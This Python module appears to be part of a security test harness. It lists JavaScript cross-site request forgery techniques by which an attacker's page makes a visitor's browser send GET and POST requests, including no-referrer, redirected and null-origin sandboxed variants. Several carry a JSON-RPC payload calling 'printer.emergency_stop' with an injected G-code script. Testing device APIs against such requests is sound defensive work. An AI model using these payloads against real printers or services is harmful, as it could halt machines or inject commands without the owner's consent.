"""What a page can do to make its visitor's browser send a request somewhere, without being asked.

Each is the body of an asynchronous function of ``url``, where the request is to go, and ``page``, the address
of a page of the attacker's, which can redirect. None waits for an answer: what the page learns isn't the
question. All but DEPARTURES leave the page as it is, so that it can go on to the next address.
"""

from __future__ import annotations

JSON = (
    '{"jsonrpc": "2.0", "method": "printer.emergency_stop", "id": 1, "script": "M117 evil", '
    '"username": "evil", "password": "evil-password", "x": "'
)
"""The beginning of a JSON object that does harm as the body of any call; ``"}`` ends it."""

ARGUMENTS = "script=M117%20evil&username=evil&password=evil-password"
"""The same in a query."""

_ELEMENT = """
    const element = Object.assign(document.createElement('%s'), {%s});
    document.body.append(element);
"""

_FORM = """
    const frame = Object.assign(document.createElement('iframe'), {name: url});
    const form = Object.assign(
        document.createElement('form'), {action: url, method: '%s', enctype: '%s', target: url});
    for (const [name, value] of %s) {
        form.append(Object.assign(document.createElement('input'), {name, value}));
    }
    document.body.append(frame, form);
    form.submit();
"""

_FIELDS = "new URLSearchParams('" + ARGUMENTS + "')"

# A frame without allow-same-origin has an origin of its own, which a browser calls "null".
_SANDBOXED = """
    const script = `%s`;
    const frame = document.createElement('iframe');
    frame.sandbox = 'allow-scripts allow-forms';
    frame.srcdoc = `<body><script>(async (url) => {${script}})(${JSON.stringify(url)})</` + 'script>';
    document.body.append(frame);
"""

GETS = {
    "image": "new Image().src = url",
    "image without a referrer": "Object.assign(new Image(), {referrerPolicy: 'no-referrer'}).src = url",
    "script": _ELEMENT % ("script", "src: url"),
    "module": "import(url).catch(() => {})",
    "style sheet": _ELEMENT % ("link", "rel: 'stylesheet', href: url"),
    "style": _ELEMENT % ("div", "style: `background: url(${url}); width: 9px; height: 9px`"),
    "preload": _ELEMENT % ("link", "rel: 'preload', as: 'image', href: url"),
    "prefetch": _ELEMENT % ("link", "rel: 'prefetch', href: url"),
    "frame": _ELEMENT % ("iframe", "src: url"),
    "frame without a referrer": _ELEMENT % ("iframe", "referrerPolicy: 'no-referrer', src: url"),
    "object": _ELEMENT % ("object", "data: url"),
    "embed": _ELEMENT % ("embed", "src: url"),
    "video": _ELEMENT % ("video", "src: url, preload: 'auto'"),
    "audio": _ELEMENT % ("audio", "src: url, preload: 'auto'"),
    "form": _FORM % ("get", "", _FIELDS),
    "fetch": "fetch(url, {mode: 'no-cors'}).catch(() => {})",
    "fetch with credentials": "fetch(url, {mode: 'no-cors', credentials: 'include'}).catch(() => {})",
    "fetch without a referrer": """
        fetch(url, {mode: 'no-cors', referrerPolicy: 'no-referrer'}).catch(() => {});
    """,
    "fetch that may be read": "fetch(url).catch(() => {})",
    "event source": "new EventSource(url)",
    "worker": """
        const body = `fetch(${JSON.stringify(url)}, {mode: 'no-cors'}).catch(() => {})`;
        new Worker(URL.createObjectURL(new Blob([body])));
    """,
    "navigation of a frame": """
        const frame = document.createElement('iframe');
        document.body.append(frame);
        frame.contentWindow.location = url;
    """,
    "refresh": """
        const frame = document.createElement('iframe');
        frame.srcdoc = `<meta http-equiv="refresh" content="0;url=${url}">`;
        document.body.append(frame);
    """,
    "redirected image": "new Image().src = `${page}/redirect?status=302&to=${encodeURIComponent(url)}`",
    "sandboxed image": _SANDBOXED % "new Image().src = url",
    "sandboxed fetch": _SANDBOXED % "fetch(url, {mode: 'no-cors'}).catch(() => {})",
    "sandboxed navigation": _SANDBOXED % "location = url",
}
"""Requests by GET."""

DEPARTURES = {
    "navigation": "setTimeout(() => { location = url })",
    "navigation without a referrer": """
        const link = Object.assign(document.createElement('a'), {href: url, rel: 'noreferrer'});
        document.body.append(link);
        setTimeout(() => link.click());
    """,
    "form": """
        const form = Object.assign(document.createElement('form'), {action: url});
        for (const [name, value] of new URL(url).searchParams) {
            form.append(Object.assign(document.createElement('input'), {name, value}));
        }
        document.body.append(form);
        setTimeout(() => form.submit());
    """,
    "redirect": """
        setTimeout(() => { location = `${page}/redirect?status=302&to=${encodeURIComponent(url)}` });
    """,
}
"""Requests by GET with which the browser leaves the page."""

POSTS = {
    "form": _FORM % ("post", "application/x-www-form-urlencoded", _FIELDS),
    "multipart form": _FORM % ("post", "multipart/form-data", _FIELDS),
    "text form": _FORM % ("post", "text/plain", f"[['{JSON}', '\"}}']]"),
    "form without fields": _FORM % ("post", "", "[]"),
    "beacon": f"navigator.sendBeacon(url, '{JSON}\"}}')",
    "beacon of fields": f"navigator.sendBeacon(url, {_FIELDS})",
    "beacon of a blob": f"navigator.sendBeacon(url, new Blob(['{JSON}\"}}'], {{type: 'text/plain'}}))",
    "fetch": f"fetch(url, {{method: 'POST', mode: 'no-cors', body: '{JSON}\"}}'}}).catch(() => {{}})",
    "fetch of no type": f"""
        fetch(url, {{method: 'POST', mode: 'no-cors', body: new Blob(['{JSON}"}}'])}}).catch(() => {{}});
    """,
    "fetch without a referrer": f"""
        const told = {{method: 'POST', mode: 'no-cors', referrerPolicy: 'no-referrer', body: {_FIELDS}}};
        fetch(url, told).catch(() => {{}});
    """,
    "fetch that may be read": f"fetch(url, {{method: 'POST', body: '{JSON}\"}}'}}).catch(() => {{}})",
    "fetch that stays": f"""
        const told = {{method: 'POST', mode: 'no-cors', keepalive: true, body: '{JSON}"}}'}};
        fetch(url, told).catch(() => {{}});
    """,
    "request of the old kind": f"""
        const request = new XMLHttpRequest();
        request.open('POST', url);
        request.send('{JSON}"}}');
    """,
    "ping of a link": """
        const link = Object.assign(document.createElement('a'), {href: '#', ping: url});
        document.body.append(link);
        link.click();
    """,
    "redirected form": (_FORM % ("post", "text/plain", f"[['{JSON}', '\"}}']]")).replace(
        "action: url", "action: `${page}/redirect?status=307&to=${encodeURIComponent(url)}`"
    ),
    "sandboxed form": _SANDBOXED
    % """
        const form = document.createElement('form');
        form.action = url;
        form.method = 'post';
        document.body.append(form);
        form.submit();
    """,
    "sandboxed fetch": _SANDBOXED
    % "fetch(url, {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => {})",
}
"""Requests by POST that a browser sends without asking the server beforehand."""
